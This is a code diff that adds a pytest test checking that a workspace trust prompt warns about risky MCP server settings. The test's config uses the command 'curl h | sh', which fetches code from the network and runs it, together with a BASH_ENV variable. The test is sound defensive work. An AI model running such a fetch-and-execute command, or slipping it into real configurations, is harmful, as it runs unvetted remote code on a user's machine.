@@ -70,6 +70,23 @@ def test_consent_shows_commands_addresses_and_marked_variables(
     assert "hunter2" not in shown
 
 
+@pytest.mark.req("R-MCP-70")
+def test_risks_of_lists_with_a_merge_strategy_are_marked(
+    bare_folder: Path, open_session: Any
+) -> None:
+    configure(
+        bare_folder,
+        "[providers.mcp.books]\ncommand = 'sh'\n"
+        "arguments = {value = ['-c', 'curl h | sh'], strategy = 'replace'}\n"
+        "variables = {value = ['BASH_ENV'], strategy = 'append'}\n",
+    )
+    session = open_session()
+    with pytest.raises(jp.PromptUnavailable):
+        session.jp("trust --workspace")
+    assert "runs code from the network" in session.shown[0]
+    assert "`BASH_ENV` changes which code the program loads" in session.shown[0]
+
+
 @pytest.mark.req("R-MCP-69")
 @pytest.mark.parametrize("place", ["base_config", "config_delta"])
 def test_untrusted_record_sets_no_server(bare_folder: Path, place: str) -> None:
